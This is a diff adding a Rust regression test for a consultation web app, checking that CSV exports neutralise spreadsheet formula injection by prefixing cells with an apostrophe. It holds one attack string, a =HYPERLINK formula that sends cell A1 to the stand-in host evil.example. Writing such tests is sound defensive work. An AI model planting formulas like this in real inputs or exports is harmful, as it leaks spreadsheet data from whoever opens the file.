@@ -130,3 +130,45 @@ async fn strict_transport_security_comes_with_secure_cookies() {
     }
     app.stop().await;
 }
+
+/// A visitor's answer that a spreadsheet would run as a formula comes out of the export as
+/// text (finding 6): the cell starts with `'`.
+#[tokio::test]
+async fn exported_answers_never_run_as_spreadsheet_formulas() {
+    let (app, _dir) = TestApp::fresh().await;
+    let mut gp = app.signed_in("gp@example.org", Role::DesignGroup).await;
+    let r = gp.call("create_prototype", &[("title", "Living Well Hub"), ("summary", "One front door"), ("body", "## The problem\n\nPeople wait.\n"), ("themes", "hub")]).await;
+    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
+    let proto = r.headers["location"].to_str().unwrap().split('/').nth(2).unwrap().to_string();
+    let r = gp.call("publish_iteration", &[("id", &proto), ("change_note", "First try")]).await;
+    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
+    let now = chrono::Utc::now().timestamp();
+    let (opens, closes) = (app::consultations::to_local_input(now - 60), app::consultations::to_local_input(now + 86_400));
+    let form = [
+        ("prototype", proto.as_str()), ("iteration", "1"), ("title", "Thoughts"), ("purpose", "Tell us."), ("audience", "public"),
+        ("opens", &opens), ("closes", &closes),
+        ("kind[]", "text"), ("prompt[]", "=1+1 what would help?"), ("options[]", ""), ("low[]", ""), ("high[]", ""), ("required[]", "yes"),
+    ];
+    let r = gp.call("open_round", &form).await;
+    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
+    let round = r.headers["location"].to_str().unwrap().split('/').nth(2).unwrap().split('?').next().unwrap().to_string();
+
+    let attack = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click for details\")";
+    let mut visitor = app.client();
+    let page: serde_json::Value = serde_json::from_str(&visitor.call("load_round", &[("id", &round)]).await.body).unwrap();
+    let q = page["questions"][0]["id"].as_i64().unwrap();
+    let key = page["key"].as_str().unwrap().to_string();
+    let field = format!("answers[q{q}]");
+    let r = visitor.call("submit_response", &[("round", &round), ("key", &key), (&field, attack), ("consent", "quote_anonymously")]).await;
+    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
+
+    for audience in ["publication", "design_group"] {
+        let csv = gp.get(&format!("/consultations/{round}/responses.csv?for={audience}")).await;
+        assert_eq!(csv.status, StatusCode::OK, "{}", csv.body);
+        // The csv crate quotes the cell (it holds quotes), so the `'` follows the opening quote.
+        assert!(csv.body.contains("\"'=HYPERLINK("), "{audience}: {}", csv.body);
+        assert!(!csv.body.contains(",=") && !csv.body.contains(",\"=") && !csv.body.contains("\n=") && !csv.body.contains("\n\"="), "{audience}: {}", csv.body);
+        assert!(csv.body.contains("'=1+1 what would help?"), "headers too: {}", csv.body);
+    }
+    app.stop().await;
+}
